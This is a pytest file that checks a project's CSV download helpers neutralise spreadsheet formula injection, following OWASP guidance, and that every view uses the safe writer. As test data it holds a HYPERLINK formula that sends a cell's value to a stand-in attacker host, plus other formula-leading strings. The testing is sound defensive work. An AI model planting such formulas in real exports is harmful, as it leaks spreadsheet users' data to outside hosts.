"""CSV downloads open safely in a spreadsheet: text that would run as a formula stays text (OWASP)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from upskill_roi.present.downloads import csv_cell, table_csv

ROOT = Path(__file__).resolve().parents[2]
LEAK = '=HYPERLINK("https://evil.example/?leak="&B3,"Open details")'


@pytest.mark.parametrize("text", [LEAK, "+SUM(A1)", "-2+3", "@x", "\tx", "\rx"])
def test_formula_text_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


def test_numbers_and_plain_text_are_written_as_they_are():
    rows = list(csv.reader(io.StringIO(table_csv(pd.DataFrame({
        "Activity": [LEAK, "Reports"], "Time (h/week)": [-2.5, 8.0], "=x": ["a", "b"]})).decode())))
    assert rows == [["Activity", "Time (h/week)", "'=x"], ["'" + LEAK, "-2.5", "a"], ["Reports", "8.0", "b"]]


@pytest.mark.parametrize("view", sorted((ROOT / "views").glob("*.py")), ids=lambda p: p.name)
def test_every_csv_download_goes_through_the_safe_writer(view):
    assert not re.search(r"\.to_csv\(", view.read_text(encoding="utf-8"))
